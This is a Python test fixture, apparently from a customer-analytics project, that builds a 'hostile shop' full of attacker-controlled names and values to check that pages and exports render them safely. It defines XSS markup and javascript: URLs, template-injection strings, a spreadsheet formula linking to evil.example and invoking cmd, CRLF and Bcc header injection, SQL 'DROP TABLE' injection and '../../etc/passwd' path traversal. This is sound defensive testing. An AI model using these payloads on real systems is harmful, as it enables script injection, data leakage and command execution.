"""The shop with somebody hostile in it: every name and every value that can come from outside is an attack.

Events are put into the log as they are, past everything that collect and the tracking plan would have refused: pages
have to stand on their own. `TAG` is an element that is in no template of ours; where one is found in a page, text of
somebody else was taken for markup.
"""

import shutil
from pathlib import Path
from typing import Any, Literal

from msgspec.structs import replace

from tactful.events.records import Event, pack
from tactful.runtime.accounts import Account, ApiToken, SignIn
from tactful.runtime.ports import Quarantined
from tactful.values import DAY_US
from tests.console.shop import PROJECT, Shop

TAG = "hostile-tag"
HIT = "window.hostile=1"
MARKUP = (
    f'"\'></title></textarea></style></script></iframe>--><{TAG} onclick="{HIT}"></{TAG}>'
    f'<img src=x onerror="{HIT}"><svg onload="{HIT}"><script>{HIT}</script><a href="javascript:{HIT}">x</a>'
)
TEMPLATE = "{{ 7 | times: 7 }}{% raw %}{{ 7*7 }}${7*7}#{7*7}{% include 'x' %}{# #}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x");=cmd|\' /C calc\'!A0\t+1+1'
LINES = "x\r\nX-Injected: yes\r\n\r\n<html>\x00\x1b[31m\u202e\u2028\u0085z"
SQL = "';\"); DROP TABLE person; --/*%_?*/ \\"
LONG = "x" * 3_000
VALUES = (MARKUP, TEMPLATE, FORMULA, LINES, SQL, LONG)
ALL = " ".join(VALUES)
KEYS = (
    f"u:{MARKUP}",
    "u:../../etc/passwd",
    "a:x/y?z#w&v=%2e%2e%00",
    f"u:{FORMULA}",
    f"u:{LINES}",
    f"a:{TEMPLATE}",
    f"u:{SQL}",
    "u:new",
    "e:..",
    "u:\u202e\ud7ff\uffff",
)
NAMES = (MARKUP, FORMULA, f"{LINES} name", TEMPLATE, "../..", "new", "%2e%2e%2f")
"""Of events, purposes, sources: one of each kind."""
NAMED = "u:named"
"""Gets mails, and is called what somebody hostile is called."""


def project(folder: Path) -> Path:
    """The shop's own, with descriptions and texts that a colleague or a pull request could have put there."""
    shutil.copytree(PROJECT, folder, dirs_exist_ok=True)
    for kind, what in (("segments", "buyers"), ("journeys", "cart_reminder")):
        file = folder / kind / f"{what}.yaml"
        lines = file.read_text(encoding="utf-8").splitlines()
        kept = [line for line in lines if not line.startswith("description:")]
        file.write_text("\n".join([f"description: {_quoted(ALL[:900])}", *kept]) + "\n", encoding="utf-8")
    settings = folder / "tactful.toml"
    named = settings.read_text(encoding="utf-8").replace('name = "Nordlicht"', f"name = {_quoted(MARKUP)}")
    settings.write_text(named, encoding="utf-8")
    return folder


def _quoted(text: str) -> str:
    """In quotes as YAML and TOML both have them."""
    plain = text.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "\\r").replace("\n", "\\n")
    return '"' + "".join(char if char.isprintable() else f"\\u{ord(char):04x}" for char in plain) + '"'


class HostileShop(Shop):
    def __init__(self, folder: Path, people: int = 10, days: int = 4) -> None:
        super().__init__(people, days, project=project(folder))
        self._named()
        for number, key in enumerate(KEYS):
            self._hostile(key, number)
        self.pass_time(DAY_US)
        self._around()

    def _call(
        self, key: str, ids: tuple[str, ...], kind: Literal["track", "identify"], event: str, /, **said: Any
    ) -> None:
        self.count += 1
        number = f"c{self.count}"
        context = {
            "ip": ALL,
            "userAgent": ALL,
            "page": {"url": f"javascript:{HIT}", "referrer": ALL, "title": ALL, "path": ALL},
            "campaign": {"name": ALL, "source": ALL},
            ALL[:200]: {ALL[:200]: [ALL]},
        }

        def call(now: int) -> Event:
            packed, around = pack(said), pack(context)
            return Event(1, ALL[:300], "server", kind, event, key, ids, number, now, now, packed, around)

        self.world.call(call)

    def _named(self) -> None:
        """Somebody who has said yes to mail, and whose traits stand in it."""
        for purpose in ("analytics", "personalization", "email_marketing"):
            self.allowed(NAMED, purpose)
        name = f"{TEMPLATE} {MARKUP}"
        self.did("$identify", NAMED, kind="identify", email="named@example.com", firstName=name, language=MARKUP)
        self.pass_time()
        self.did("Newsletter Subscribed", NAMED, form=ALL)
        self.did("Product Added", NAMED, product_id="mug-tide", name=ALL, category=ALL, price=24.0, quantity=1)
        self.pass_time(DAY_US)

    def _hostile(self, key: str, number: int) -> None:
        value = VALUES[number % len(VALUES)]
        for purpose in ("analytics", "personalization", "email_marketing"):
            self.allowed(key, purpose)
        others = (f"a:{value}{number}"[:500], f"d:{value}{number}"[:500])
        traits = {"email": f"{value}@x.example\r\nBcc: y@x.example", "firstName": value, MARKUP: value, FORMULA: ALL}
        self._call(key, (key, *others), "identify", "$identify", **traits, timezone=value, address={"city": value})
        self.pass_time()
        for name in (*NAMES, "Product Viewed", "Product Added", "Order Completed", "Newsletter Subscribed"):
            said = {"product_id": value, "name": value, "category": value, "price": 5.0, "total": 5.0, "query": value}
            self._call(key, (key,), "track", name, **said, **{MARKUP: value, "nested": {FORMULA: [value, {value: 1}]}})
        for purpose in (*NAMES, "profiling"):
            self.allowed(key, purpose, granted=number % 2 == 0)
        self.pass_time()

    def _around(self) -> None:
        """What is beside the log: the quarantine, the office."""
        now_us, office = self.world.clock.now_us(), self.house.office
        for value in VALUES:
            body = value.encode() + b"\xff\xfe\x00"
            self.world.quarantine.put([Quarantined(0, now_us, value, value, value, value, body, len(body))])
        texts = {"segments/buyers.yaml": (ALL, f"when: {ALL}\n"), f"segments/{MARKUP}.yaml": (None, ALL)}
        for number, value in enumerate(VALUES):
            office.audit.note(now_us, value, value, value, value)
            office.revisions.note(now_us, value, {path: (one, f"{two}{number}") for path, (one, two) in texts.items()})
            name = value[:90] + str(number)
            office.accounts.put(Account(name, "viewer", now_us, value))
            sign_in = SignIn(0, bytes(31) + bytes([number]), name, "x", now_us, now_us, now_us + DAY_US, value, value)
            office.accounts.open(sign_in)
            office.tokens.add(ApiToken(name, "viewer", bytes(31) + bytes([number]), now_us, value))
        self.settings = replace(self.settings)
